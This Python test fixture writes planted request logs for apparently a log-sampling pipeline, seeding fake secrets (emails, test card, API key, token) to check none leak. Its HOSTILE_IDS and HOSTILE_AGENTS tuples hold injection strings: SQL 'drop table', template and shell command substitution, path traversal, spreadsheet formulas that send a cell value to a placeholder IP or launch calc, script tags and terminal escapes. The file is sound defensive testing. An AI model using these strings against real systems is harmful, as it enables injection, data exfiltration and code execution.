"""Logs with things in them that must not come out, and ids that want to break out."""

import hashlib
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from tests.integration.awkward_logs import write_json_lines

Row = dict[str, Any]

# What people write into prompts. Nothing of it may be published, whole or in part.
SECRETS = {
    "mail address": "anna.mueller@example.org",
    "other mail address": "j.quillfeather+news@mail.example.com",
    "telephone number": "+49 170 5550199",
    "card number": "4111 1111 1111 1111",
    "account number": "DE89 3704 0044 0532 0130 00",
    "key": "sk-live-9f8e7d6c5b4a39281706",
    "token": "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4",
    "address of a machine": "2001:db8:a1b2::c3d4",
    "name": "Wilhelmina Quillfeather",
}
PARTS = (
    "anna.mueller",
    "quillfeather",
    "Quillfeather",
    "Wilhelmina",
    "5550199",
    "1111 1111",
    "0044 0532",
    "9f8e7d6c",
    "A1b2C3d4",
    "db8:a1b2",
)
PROMPT = (
    "please grade the following answer that the customer {name} ({mail address}, or "
    "{other mail address}) gave us by telephone {telephone number} about card "
    "{card number}, account {account number}, with {key} and {token} from "
    "{address of a machine}: explain step by step why answer {number} is right"
).replace("{number}", "{{number}}")
SYSTEM_PROMPT = "you help {name}, who can be reached at {mail address}"

# Ids that mean something to SQL, Jinja, shells, make, paths, spreadsheets, HTML, JSON,
# formats, terminals and command lines.
HOSTILE_IDS = (
    "o'brien \"; drop table accounts; --",
    "{{ env_var('HOME') }} {% raw %} {# no #}",
    "$(touch pwned) `touch pwned` ; touch pwned | touch pwned & $(shell touch pwned)",
    "../../../../tmp/pwned",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "--engine=spark",
    "<script>alert('x')</script>&amp;",
    "line\nbreak\ttab\rreturn",
    "\\Q.*\\E [a-z]+ $1 %s {0} ${HOME}",
    "\x1b[2J\x1b[31mred\x07",
    "\u202eright to left \U0001f600 e\u0301",
)
HOSTILE_AGENTS = ("sdk/1.0 '); drop table requests; --", "{{ 7 * 7 }} $(touch pwned)")
FIRST_REQUEST = datetime(2026, 3, 2, 9)
REQUESTS_PER_ACCOUNT = 4


def write_planted_logs(folder: Path, account: str) -> None:
    """Requests of the hostile ids and of another account, all with secrets.

    Written so that no engine can read the file as it lies: a copy is made of it.
    """
    prompt = PROMPT.format(**SECRETS)
    rows = [
        {
            "request_id": _sampled_id(f"planted {place} {number}"),
            "requested_at": FIRST_REQUEST + timedelta(minutes=7 * place, hours=number),
            "account_id": account_id,
            "model": "model-1",
            "user_agent": HOSTILE_AGENTS[number % len(HOSTILE_AGENTS)],
            "client_device_id": f"device {place % 5}",
            "client_ip": "192.0.2.9",
            "system_prompt": SYSTEM_PROMPT.format(**SECRETS),
            "prompt": prompt.format(number=chr(97 + place) + chr(97 + number)),
            "output_tokens": 300,
        }
        for place, account_id in enumerate((*HOSTILE_IDS, account))
        for number in range(REQUESTS_PER_ACCOUNT)
    ]
    rows[REQUESTS_PER_ACCOUNT]["latency_ms"] = f"not {SECRETS['telephone number']}"
    path = folder / "api_requests" / "planted.jsonl"
    write_json_lines(path, rows)
    with path.open("ab") as file:
        file.write(b"\n\n{ cut off\n")


def _sampled_id(name: str) -> str:
    """A request id of those whose prompts are sampled for the skeletons."""
    return next(
        request_id
        for request_id in (f"{name} {number}" for number in range(1000))
        if hashlib.md5(request_id.encode()).hexdigest()[0] in "01"
    )
